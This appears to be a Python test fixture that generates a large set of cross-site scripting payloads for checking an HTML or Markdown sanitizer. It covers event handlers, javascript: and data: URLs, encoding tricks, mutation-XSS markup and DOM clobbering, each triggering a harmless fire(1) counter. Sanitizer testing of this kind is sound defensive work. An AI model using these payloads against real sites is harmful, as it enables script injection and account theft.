"""Hostile texts, made by combination: what to run × how to write it × where in a text to put it.

Each runs `fire(n)` if it ever gets through, so a browser can count. `RAW` is the same as plain HTML: the control that
shows that the payloads are alive.
"""

from collections.abc import Iterator
from itertools import product

FIRE = "fire(1)"

_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
_TAGS = {
    "img": "<img src=x {}>",
    "svg": "<svg {}>",
    "body": "<body {}>",
    "input": "<input autofocus {}>",
    "details": "<details open {}><summary>x</summary></details>",
    "video": "<video><source {}></video>",
    "iframe": "<iframe {}></iframe>",
    "math": "<math {}><mi>x</mi></math>",
    "animate": "<svg><animate attributeName=x dur=1s {}></svg>",
    "marquee": "<marquee {}>x</marquee>",
    "custom": "<x-y tabindex=1 {}>x</x-y>",
}
_HANDLERS = (
    "{}={}",
    "{}='{}'",
    '{} = "{}"',
    "/{}={}",
)
_SCRIPTS = (
    f"<script>{FIRE}</script>",
    f"<ScRiPt>{FIRE}</sCrIpT>",
    f"<script/x>{FIRE}</script>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    f"<object data='javascript:{FIRE}'></object>",
    f"<embed src='javascript:{FIRE}'>",
    f"<a href='javascript:{FIRE}'>x</a>",
    f"<form action='javascript:{FIRE}'><button>x</button></form>",
    f"<button formaction='javascript:{FIRE}' form=f>x</button>",
    f"<base href='javascript:{FIRE}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    f"<link rel=stylesheet href='javascript:{FIRE}'>",
    f"<style>@import 'javascript:{FIRE}';</style>",
    f"<div style=\"background:url('javascript:{FIRE}')\">x</div>",
    f"<div hx-get=/x hx-trigger=load hx-on::load='{FIRE}'>x</div>",
    f"<div data-hx-post=/x data-hx-trigger=load data-hx-on='{FIRE}'>x</div>",
    "<img name=body><img id=htmx name=getElementById>",
)
# Markup that parsers read differently the second time.
_MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={FIRE}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={FIRE}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
    f"<math><mi><mglyph><svg><mtext><style><path id='</style><img src=x onerror={FIRE}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={FIRE}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={FIRE}></annotation-xml></math>",
    f"<svg><foreignObject><img src=x onerror={FIRE}></foreignObject></svg>",
    f"<select><option><style></option></select><img src=x onerror={FIRE}></style>",
    f"<xmp><p title='</xmp><img src=x onerror={FIRE}>'>",
    f"<template><img src=x onerror={FIRE}></template>",
    f"<textarea><p title='</textarea><img src=x onerror={FIRE}>'>",
    f"<math><maction actiontype='statusline#http://x' xlink:href='javascript:{FIRE}'>x</maction></math>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={FIRE}>#x'></svg>",
    f"<!--><img src=x onerror={FIRE}>-->",
    f"<![CDATA[<img src=x onerror={FIRE}>]]>",
    f"<?x <img src=x onerror={FIRE}>?>",
)
_ADDRESSES = (
    f"javascript:{FIRE}",
    f"JaVaScRiPt:{FIRE}",
    f" javascript:{FIRE}",
    f"\x01javascript:{FIRE}",
    f"java\tscript:{FIRE}",
    f"java&#10;script:{FIRE}",
    f"&#106;avascript:{FIRE}",
    f"&#x6A;avascript&colon;{FIRE}",
    f"javascript&#58;{FIRE}",
    f"java%0ascript:{FIRE}",
    f"javascript://e.org/%0a{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={FIRE}>",
    f"vbscript:{FIRE}",
    f"view-source:javascript:{FIRE}",
    f"blob:{FIRE}",
    f'x" onmouseover="{FIRE}',
    f"x' onerror='{FIRE}",
    f'https://e.org/"onload={FIRE}',
    f"https://e.org/><img src=x onerror={FIRE}>",
    f"//e.org/`onload={FIRE}`",
)
_ADDRESS_PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[![x]({})](/y)",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "{}",
    '[x](/y "{}")',
    "[{}](/y)",
    "![{}](/y)",
    r"$\href{{{}}}{{x}}$",
    "www.e.org/{}",
)
_PLACES = (
    "{}",
    "a {} b",
    "# {}",
    "- [ ] {}",
    "> {}",
    "`{}`",
    "```\n{}\n```",
    "```html\n{}\n```",
    "```{}\nx\n```",
    "    {}",
    "| {} |\n|---|\n| {} |",
    "x[^1]\n\n[^1]: {}",
    "x[^{}]\n\n[^{}]: y",
    "**{}**",
    "[{}](/y)",
    '[x](/y "{}")',
    "![{}](/y)",
    "@{}",
    "${}$",
    "$$\n{}\n$$",
    r"$\text{{{}}}$",
    r"$\mathrm{{{}}}$",
    r"$\style{{{}}}{{x}}$",
    r"$\class{{{}}}{{x}}$",
    r"$\color{{{}}}{{x}}$",
    r"$\operatorname{{{}}}$",
    r"$\hspace{{{}}}$",
    r"$\begin{{{}}}x\end{{{}}}$",
    r"$\unknown{{{}}}$",
    "<p>\n\n{}\n\n</p>",
    "</div></div></main>{}",
)


def _written(html: str) -> Iterator[str]:
    yield html
    yield html.replace("<", "&lt;").replace(">", "&gt;")
    yield html.replace("<", "&#60;").replace(">", "&#x3e;")
    yield html.replace("<", "\\<")
    yield html.replace("<", "<\x00", 1)


def _handlers() -> Iterator[str]:
    for (number, tag), event in product(enumerate(_TAGS.values()), _EVENTS):
        yield tag.format(_HANDLERS[(number + len(event)) % len(_HANDLERS)].format(event, FIRE))


RAW = [*_handlers(), *_SCRIPTS, *_MUTATIONS]


def _payloads() -> Iterator[str]:
    core = [*list(_handlers())[::11], *_SCRIPTS, *_MUTATIONS]
    for html, place in product(core, _PLACES):
        yield place.replace("{}", html) if "{{" not in place else place.format(*[html] * 2)
    for html in RAW:
        yield from _written(html)
    for address, place in product(_ADDRESSES, _ADDRESS_PLACES):
        yield place.format(address)


PAYLOADS = list(dict.fromkeys(_payloads()))
